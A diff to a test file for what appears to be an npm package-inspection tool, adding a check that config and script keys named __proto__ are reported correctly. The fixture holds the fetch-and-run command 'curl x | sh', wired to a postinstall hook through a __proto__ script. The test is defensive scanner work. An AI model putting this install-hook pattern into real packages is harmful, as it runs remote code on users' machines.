@@ -269,4 +269,9 @@ test('config values are kept as install scripts see them (npm_package_config_<ke
   assert.deepEqual(withScripts.facts['script_config'], { cmd: 'curl x | sh', nested_deep: '1', nested_flag: 'true' });
   const without = await inspectTarball(packageTarball({ name: 'c', version: '1.0.0', config }).bytes);
   assert.deepEqual(without.facts['script_config'], {});
+  // Keys named __proto__ are members like any other, as npm reads them (`npm run __proto__`).
+  const proto = JSON.parse('{"name": "c", "version": "1.0.0", "config": {"__proto__": "curl x | sh"}, "scripts": {"postinstall": "npm run __proto__", "__proto__": "sh -c \\"$npm_package_config___proto__\\""}}') as Record<string, unknown>;
+  const held = await inspectTarball(packageTarball(proto).bytes);
+  assert.deepEqual(Object.entries(held.facts['install_scripts'] as object), [['postinstall', 'npm run __proto__'], ['__proto__', 'sh -c "$npm_package_config___proto__"']]);
+  assert.deepEqual(Object.entries(held.facts['script_config'] as object), [['__proto__', 'curl x | sh']]);
 });
